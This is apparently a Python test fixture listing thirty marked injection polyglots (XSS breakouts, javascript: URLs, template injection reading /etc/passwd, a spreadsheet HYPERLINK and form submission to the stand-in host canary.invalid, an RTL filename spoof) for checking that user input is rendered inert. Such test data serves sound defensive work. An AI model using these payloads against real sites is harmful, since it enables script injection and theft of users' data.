r"""T46: thirty texts that try to become something else than text, for everywhere that a person can type.

Each bears a mark: what becomes an element or an attribute shows `data-canary`, what runs opens a dialog with its number, what fetches asks for
`canary.invalid`, what is computed says 94011, which is three times 31337.
"""

BREAKOUT = """'"--></title></textarea></script></style><b data-canary>"""
"""Leaves every kind of quotation marks and every element whose content is not parsed."""
POLYGLOTS = (
    # elements, out of text
    "<script data-canary>alert(1)</script>",
    "<img data-canary src=x onerror=alert(2)>",
    "<iframe data-canary srcdoc='<script>parent.alert(3)</script>'></iframe>",
    "<div data-canary hx-get=/me hx-trigger=load hx-on::load=alert(4)>",
    "<form data-canary action=//canary.invalid/5><input name=csrf_token autofocus onfocus=alert(5)>",
    "<base data-canary href=//canary.invalid/6/><link data-canary rel=stylesheet href=//canary.invalid/6>",
    # out of an attribute, in every kind of quotation marks and in none
    '"><img data-canary src=x onerror=alert(7)>',
    "'><svg data-canary onload=alert(8)>",
    '" autofocus onfocus=alert(9) data-canary="',
    "' onmouseover=alert(10) data-canary='",
    "x onclick=alert(11) data-canary",
    "` onerror=alert(12) data-canary=`",
    # out of an element whose content is not parsed
    "</title><img data-canary src=x onerror=alert(13)>",
    "</textarea><img data-canary src=x onerror=alert(14)>",
    "</script><script data-canary>alert(15)</script>",
    "</style><style data-canary>@import '//canary.invalid/16';</style>",
    "--><img data-canary src=x onerror=alert(17)><!--",
    "<noscript><p title='</noscript><img data-canary src=x onerror=alert(18)>'>",
    "<math><mtext><table><mglyph><style><img data-canary src=x onerror=alert(19)>",
    "<svg><use data-canary href='data:image/svg+xml,<svg onload=alert(20)>#a'/></svg>",
    # addresses
    "javascript:alert(21)//data-canary",
    "<a data-canary href='jav&#x09;ascript:alert(22)'>O'Brien</a>",
    "data:text/html,<script data-canary>alert(23)</script>",
    # Markdown
    "[press](javascript:alert(24)) ![look](https://canary.invalid/24.png 'data-canary')",
    "<https://canary.invalid/25> **bold** `code` | a | b | ![x](data:image/svg+xml,x)",
    # templates and formats
    "{{31337*3}}${31337*3}<%=31337*3%>#{31337*3} alert(26)",
    "{% include '/etc/passwd' %}{{config}} %(name)s %s %d {0} {name} alert(27)",
    # tables, characters that hide, and what was escaped before
    "=HYPERLINK('//canary.invalid/28';1) alert(28)",
    "\u202egnp.exe\u2066<b data-canary onclick=alert(29)>",
    "&lt;img data-canary src=x onerror=alert(30)&gt;&#60;b data-canary&#62;",
)
